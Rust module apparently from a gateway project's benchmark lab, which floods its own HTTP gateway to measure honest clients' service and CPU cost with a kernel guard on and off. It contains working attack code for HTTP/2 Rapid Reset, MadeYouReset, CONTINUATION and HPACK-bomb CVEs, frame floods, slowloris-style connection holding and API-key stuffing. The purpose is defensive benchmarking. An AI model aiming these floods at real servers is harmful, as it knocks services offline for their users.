//! Abuse above the packet level: floods of HTTP/2 frames, and connections that only hold on.
//!
//! Owns the attacks, each as fast as one thread makes it from a few addresses, and the table of what they cost: the honest
//! clients' requests, and the gateway's CPU. Every connection that the gateway ends is replaced at once.

use std::fmt::Write as _;
use std::io::{ErrorKind, Read, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::ValueEnum;
use serde_json::{Value, json};
use socket2::{Domain, Socket, Type};

use crate::client::Tally;
use crate::lab::{self, Guard, Lab};
use crate::median;

/// Addresses that attack.
const SOURCES: u8 = 16;
/// Connections that hold on.
const HELD: usize = 1000;
/// Between two bytes of a connection that holds on.
const DRIP: Duration = Duration::from_secs(1);
/// Frames, or pairs of them, of one write.
const AT_ONCE: u32 = 50;
/// Enough for a request to be passed on.
const LATE: Duration = Duration::from_millis(2);
/// A SYN that was dropped is tried again by then: from another address.
const CONNECT: Duration = Duration::from_millis(200);

/// What is done to the gateway.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Nothing: what the honest clients have by themselves.
    None,
    /// HEADERS and RST_STREAM (CVE-2023-44487).
    RapidReset,
    /// The same, but each reset so late that its request has been passed on.
    LateReset,
    /// A WINDOW_UPDATE of 0 has the server reset each stream (CVE-2025-8671).
    MadeYouReset,
    /// A header block without end (CVE-2024-27316).
    Continuation,
    /// PING.
    Ping,
    /// Empty SETTINGS.
    Settings,
    /// WINDOW_UPDATE of an octet.
    WindowUpdate,
    /// PRIORITY.
    Priority,
    /// DATA without content.
    EmptyData,
    /// DATA of an octet.
    SmallData,
    /// References to a large field (CVE-2016-6581): 4 KiB that mean 15 MiB.
    HpackBomb,
    /// 50 requests a second with a key that nobody has, from one address.
    Stuffing,
    /// A thousand requests whose head comes byte by byte.
    SlowHead,
    /// A thousand whose body does.
    SlowBody,
    /// A thousand whose answer is not read.
    SlowRead,
}

impl Attack {
    fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }

    /// Frames that are sent again and again, `turn` telling them apart.
    fn frames(self, turn: u32) -> Vec<u8> {
        let stream = turn * 2 + 1;
        match self {
            Self::RapidReset => [request(stream), reset(stream)].concat(),
            // As many streams are open as are sent at once.
            Self::LateReset if turn >= AT_ONCE => [reset(stream - 2 * AT_ONCE), request(stream)].concat(),
            Self::LateReset => request(stream),
            Self::MadeYouReset => [request(stream), frame(8, 0, stream, &[0; 4])].concat(),
            Self::Continuation if turn == 0 => frame(1, 0, 1, &block()),
            Self::Continuation => frame(9, 0, 1, &[0, 1, b'x', 1, b'y']),
            Self::Ping => frame(6, 0, 0, &[7; 8]),
            Self::WindowUpdate => frame(8, 0, 0, &[0, 0, 0, 1]),
            Self::Priority => frame(2, 0, stream, &[0, 0, 0, 0, 15]),
            Self::EmptyData | Self::SmallData if turn == 0 => frame(1, 4, 1, &block()),
            Self::EmptyData => frame(0, 0, 1, &[]),
            Self::SmallData => frame(0, 0, 1, b"x"),
            Self::HpackBomb if turn == 0 => frame(1, 5, 1, &[block(), large_field()].concat()),
            Self::HpackBomb => frame(1, 5, stream, &[block(), vec![0xbe; 4096]].concat()),
            _ => frame(4, 0, 0, &[]),
        }
    }

    /// What a connection that holds on begins with, and goes on with.
    fn held(self) -> (&'static [u8], &'static [u8]) {
        match self {
            Self::SlowHead => (b"GET / HTTP/1.1\r\nHost: flood.test\r\nX-Slow: ", b"x"),
            Self::SlowBody => {
                (b"POST / HTTP/1.1\r\nHost: flood.test\r\nContent-Length: 1000000\r\n\r\n", b"x")
            }
            _ => (b"GET /large HTTP/1.1\r\nHost: flood.test\r\n\r\n", b""),
        }
    }
}

/// What an attack came to.
#[derive(Clone, Copy, Debug, Default)]
pub struct Made {
    pub connections: u64,
    pub bytes: u64,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `GET / http`, and an authority, out of HPACK's static table.
fn block() -> Vec<u8> {
    [&[0x82, 0x86, 0x84, 0x01, 0x0a][..], b"flood.test"].concat()
}

/// A field of almost the whole dynamic table, which is added to it: `x`, and 3,968 octets.
fn large_field() -> Vec<u8> {
    [&[0x40, 1, b'x', 0x7f, 0x81, 0x1e][..], &[b'v'; 4096 - 128]].concat()
}

fn request(stream: u32) -> Vec<u8> {
    frame(1, 5, stream, &block())
}

fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8_u32.to_be_bytes())
}

/// Attacks for `seconds`; run in the clients' namespace.
pub fn attack(attack: Attack, seconds: u64) -> Made {
    let end = Instant::now() + Duration::from_secs(seconds);
    match attack {
        Attack::None => Made::default(),
        Attack::Stuffing => stuff(end),
        Attack::SlowHead | Attack::SlowBody | Attack::SlowRead => hold(attack, end),
        _ => flood(attack, end),
    }
}

fn connect(turn: usize) -> std::io::Result<TcpStream> {
    let source = SocketAddr::new(lab::attacking_address((turn % usize::from(SOURCES)) as u8).into(), 0);
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&source.into())?;
    socket.set_recv_buffer_size(4096)?;
    socket.connect_timeout(&lab::gate().into(), CONNECT)?;
    Ok(TcpStream::from(socket))
}

/// One connection after the other, each until the gateway ends it.
fn flood(attack: Attack, end: Instant) -> Made {
    let mut made = Made::default();
    let mut sink = vec![0; 64 * 1024];
    let first = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat();
    for turn in 0.. {
        if Instant::now() >= end {
            break;
        }
        let Ok(mut stream) = connect(turn) else { continue };
        made.connections += 1;
        let _ = stream.set_write_timeout(Some(CONNECT));
        let mut sent = stream.write_all(&first);
        let mut next = 0;
        while sent.is_ok() && Instant::now() < end {
            let many: Vec<u8> = (next..next + AT_ONCE).flat_map(|turn| attack.frames(turn)).collect();
            next += AT_ONCE;
            sent = stream.write_all(&many);
            made.bytes += many.len() as u64;
            if attack == Attack::LateReset {
                std::thread::sleep(LATE);
            }
            let _ = stream.set_nonblocking(true);
            if matches!(stream.read(&mut sink), Ok(0)) {
                break;
            }
            let _ = stream.set_nonblocking(false);
        }
    }
    made
}

/// Wrong keys, from one address.
fn stuff(end: Instant) -> Made {
    let mut made = Made::default();
    let request = b"GET /private HTTP/1.1\r\nHost: flood.test\r\napikey: wrong\r\nConnection: close\r\n\r\n";
    while Instant::now() < end {
        let begun = Instant::now();
        if let Ok(mut stream) = connect(0) {
            made.connections += 1;
            made.bytes += request.len() as u64;
            let _ = stream.set_read_timeout(Some(CONNECT));
            let _ = stream.write_all(request).and_then(|()| stream.read_to_end(&mut Vec::new()));
        }
        std::thread::sleep((begun + Duration::from_millis(20)).saturating_duration_since(Instant::now()));
    }
    made
}

/// As many connections as there may be, each of which goes on a little each second.
fn hold(attack: Attack, end: Instant) -> Made {
    let mut made = Made::default();
    let (first, rest) = attack.held();
    let mut held: Vec<TcpStream> = Vec::new();
    while Instant::now() < end {
        let begun = Instant::now();
        while held.len() < HELD && Instant::now() < begun + DRIP {
            let Ok(mut stream) = connect(made.connections as usize + held.len()) else { continue };
            made.connections += 1;
            if stream.write_all(first).is_ok() && stream.set_nonblocking(true).is_ok() {
                held.push(stream);
            }
        }
        held.retain_mut(|stream| match stream.write(rest) {
            Ok(n) => {
                made.bytes += n as u64;
                // What it is told is looked at, and is the end; an answer that is not to be read is left alone.
                attack == Attack::SlowRead
                    || matches!(stream.read(&mut [0; 256]), Err(error) if error.kind() == ErrorKind::WouldBlock)
            }
            Err(error) => error.kind() == ErrorKind::WouldBlock,
        });
        std::thread::sleep((begun + DRIP).saturating_duration_since(Instant::now()));
    }
    made
}

impl Made {
    pub fn to_json(self) -> Value {
        json!({ "connections": self.connections, "bytes": self.bytes })
    }

    pub fn from_json(text: &[u8]) -> Result<Made> {
        let value: Value = serde_json::from_slice(text).context("the attacker's tally")?;
        let number = |key: &str| value[key].as_u64().unwrap_or(0);
        Ok(Made { connections: number("connections"), bytes: number("bytes") })
    }
}

/// One attack as it was seen from all sides.
pub struct Seen {
    pub honest: Tally,
    pub made: Made,
    /// Of the gateway: processor seconds a second.
    pub cores: f64,
}

/// Runs `attacks` with the kernel part on and off, and gives the table.
pub fn run(lab: &Lab, attacks: &[Attack], seconds: u64, rounds: usize) -> Result<String> {
    let mut rows = String::new();
    let guards = [Guard::Kernel, Guard::None];
    let mut all: Vec<Vec<Vec<Seen>>> =
        guards.iter().map(|_| attacks.iter().map(|_| Vec::new()).collect()).collect();
    for round in 0..rounds {
        for (guard, of_guard) in guards.iter().zip(&mut all) {
            for (attack, of_attack) in attacks.iter().zip(of_guard) {
                // A gateway of its own: what an attack has cost its addresses is not to shield the next.
                let gateway = lab.gateway(*guard)?;
                let seen = lab.abuse(&gateway, *attack, seconds)?;
                println!(
                    "round {round}, {}, {}: {}; {:.2} cores, {} connections; {}",
                    guard.as_str(),
                    attack.name(),
                    seen.honest.summary(),
                    seen.cores,
                    seen.made.connections,
                    lab.refusals()?,
                );
                of_attack.push(seen);
            }
        }
    }
    for (guard, of_guard) in guards.iter().zip(&all) {
        for (attack, of_attack) in attacks.iter().zip(of_guard) {
            let of = |value: &dyn Fn(&Seen) -> f64| median(of_attack.iter().map(value).collect());
            let failed: u64 = of_attack.iter().map(|seen| seen.honest.failed).sum();
            let _ = writeln!(
                rows,
                "| {} | {} | {:.0} | {:.2} | {:.2} | {failed} | {:.2} | {:.0} | {:.2} |",
                attack.name(),
                guard.title(),
                of(&|seen| seen.honest.per_second()),
                of(&|seen| seen.honest.percentile(50)),
                of(&|seen| seen.honest.percentile(99)),
                of(&|seen| seen.cores),
                of(&|seen| seen.made.connections as f64 / seconds as f64),
                of(&|seen| seen.made.bytes as f64 / seconds as f64 / 1e6),
            );
        }
    }
    Ok(format!(
        "# Honest clients beside abuse of HTTP\n\n{} honest addresses ask for a page again and again, each time on a new \
         connection, while one thread on {SOURCES} other addresses attacks as fast as it can; slow attacks hold {HELD} \
         connections. Median of {rounds} rounds of {seconds} s each. Cores are the gateway's processor time, honest \
         clients included. `cargo xtask bench abuse` makes this table.\n\n\
         | attack | guard | served, requests/s | half within, ms | 99 % within, ms | failed | cores | attacker's connections/s | \
         MB/s |\n|---|---|---:|---:|---:|---:|---:|---:|---:|\n{rows}",
        lab::HONEST,
    ))
}
